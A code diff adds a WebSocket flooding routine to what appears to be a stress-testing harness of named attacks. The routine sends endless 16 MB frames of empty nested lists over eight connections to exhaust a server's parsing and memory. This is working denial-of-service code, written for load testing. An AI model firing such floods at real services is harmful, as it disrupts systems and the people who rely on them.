@@ -138,6 +138,19 @@ async def socket_read_ahead(target: Target) -> Outcomes:
     return await _talk(target, 4, talk)
 
 
+@attack("values in a socket", "8 WebSockets whose frames of 16 MB are lists without anything in them", token=True)
+async def socket_values(target: Target) -> Outcomes:
+    frame = "[" + "[]," * 5_000_000 + "[]]"
+
+    async def talk(socket: websockets.ClientConnection, outcomes: Outcomes) -> None:
+        while True:
+            await socket.send(frame)
+            await socket.recv()
+            outcomes["answered"] += 1
+
+    return await _talk(target, 8, talk)
+
+
 @attack("pings of a socket", "20 WebSockets that ping without end and read no answer", token=True)
 async def socket_pings(target: Target) -> Outcomes:
     async def talk(socket: websockets.ClientConnection, outcomes: Outcomes) -> None:
